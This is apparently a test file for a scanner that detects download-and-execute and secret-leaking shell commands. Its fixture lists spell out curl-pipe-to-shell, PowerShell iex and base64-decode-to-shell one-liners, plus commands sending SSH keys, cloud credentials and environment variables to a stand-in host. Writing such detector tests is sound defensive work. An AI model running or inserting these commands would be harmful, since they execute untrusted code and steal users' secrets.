import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandsOf } from './commands.ts';
import { downloadsIn, isWellKnown } from './download.ts';
import { leaksIn } from './leaks.ts';

const running = [
  'curl -fsSL https://x.example/i.sh | sh',
  'curl https://x.example/i.sh | sudo -E bash -s -- --yes',
  'wget -qO- http://x.example/i | /bin/bash',
  'curl -s https://x.example/i.py | python3 -',
  'curl https://x.example/a | tee /tmp/a | bash',
  'bash -c "$(curl -fsSL https://x.example/i.sh)"',
  'eval "$(wget -qO- https://x.example/i)"',
  'source <(curl -s https://x.example/i)',
  'bash <(curl -s https://x.example/i)',
  '. <(curl https://x.example/env)',
  'eval `curl https://x.example/i`',
  'iwr https://x.example/i.ps1 | iex',
  'iex (irm https://x.example/i.ps1)',
  "IEX ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))",
  `powershell -nop -enc ${'QQBB'.repeat(20)}`,
  'curl -o /tmp/m https://x.example/m && chmod +x /tmp/m && /tmp/m',
  'wget https://x.example/setup.sh\nchmod +x setup.sh\n./setup.sh --quiet',
  'curl -O https://x.example/run.py; python3 run.py',
  'curl -sSL https://x.example/k > k.sh\nbash k.sh',
  `python3 -c "import urllib.request as u;exec(u.urlopen('https://x.example/p').read())"`,
  `node -e "fetch('https://x.example/p').then(r=>r.text()).then(eval)"`,
  'echo Y3VybCBodHRwczovL2V2aWw= | base64 -d | sh',
  'base64 --decode <<< $X | bash',
  'env A=b curl https://x.example/i | \\\n  sh',
];

const harmless = [
  'curl -s https://api.example.com/v1/items | jq .',
  'curl -s https://api.example.com | python3 -m json.tool',
  `curl -s https://api.example.com | python3 -c "import json,sys; print(json.load(sys.stdin)['a'])"`,
  'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://api.example.com',
  'curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/',
  'wget https://example.com/data.csv && python3 analyse.py data.csv',
  'curl https://example.com/a.tar.gz | tar xz',
  "echo 'curl https://x.example | sh'",
  '# curl https://x.example | sh',
  'cat config.json | base64 -d > out.bin',
  'bash scripts/build.sh && node dist/main.js',
  'pip install -r requirements.txt | tee log.txt',
  'git log | head',
  'echo "$KEY" | base64 -d > key.bin',
];

const leaking = [
  'cat ~/.ssh/id_rsa | curl -X POST -d @- https://x.example',
  'curl -F file=@$HOME/.aws/credentials https://x.example/up',
  'curl -d "$(env)" https://x.example',
  'curl "https://x.example/?k=$(cat ~/.netrc | base64)"',
  'KEY=$(cat ~/.ssh/id_ed25519)\ncurl -d "$KEY" https://x.example',
  'printenv | nc x.example 4444',
  'tar cz ~/.ssh ~/.aws/ | curl -T - https://x.example/b',
  'curl --upload-file .env https://x.example',
  'cat /etc/passwd > /dev/tcp/10.0.0.1/80',
];

const keeping = [
  'curl -H "Authorization: Bearer $API_KEY" https://api.example.com',
  'curl --netrc-file ~/.netrc https://api.example.com',
  'scp -i ~/.ssh/id_rsa build.tar.gz host:/srv',
  'set -a; source .env; set +a; curl https://api.example.com/$PROJECT',
  'env | sort',
  'cat .env.example',
  'curl -u "$USER:$PASS" -d @payload.json https://api.example.com',
  'test -f ~/.ssh/id_rsa || ssh-keygen',
];

describe('downloadsIn', () => {
  it.each(running)('finds %s', (line) => expect(downloadsIn(line)).toHaveLength(1));
  it.each(harmless)('leaves %s alone', (line) => expect(downloadsIn(line)).toEqual([]));
  it('knows makers by their whole host', () => {
    expect(isWellKnown('https://astral.sh/uv/install.sh')).toBe(true);
    expect(isWellKnown('https://astral.sh.evil.example/uv')).toBe(false);
    expect(isWellKnown('http://get.docker.com/')).toBe(false);
  });
});

describe('leaksIn', () => {
  it.each(leaking)('finds %s', (line) => expect(leaksIn(line)).toHaveLength(1));
  it.each(keeping)('leaves %s alone', (line) => expect(leaksIn(line)).toEqual([]));
});

describe('any script', () => {
  it('is cut into commands that stand in it', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom('curl ', '|', '"', "'", '$(', ')', '`', '\\', '\n', ';', '&&', 'sh', '<(', '#', ' ', 'a='),
        ),
        (list) => {
          const script = list.join('');
          for (const { raw, at } of commandsOf(script)) expect(script.startsWith(raw, at)).toBe(true);
          expect([...downloadsIn(script), ...leaksIn(script)]).toBeDefined();
        },
      ),
    );
  });
  it.each(['$(', '"', 'curl | ', 'a;', '`', 'eval $(', 'curl -o a ', 'sh -c "', "'"])(
    'of many %s takes time that its length explains',
    (piece) => {
      expect(downloadsIn(piece.repeat(50_000))).toBeDefined();
      expect(leaksIn(piece.repeat(50_000))).toBeDefined();
    },
  );
});
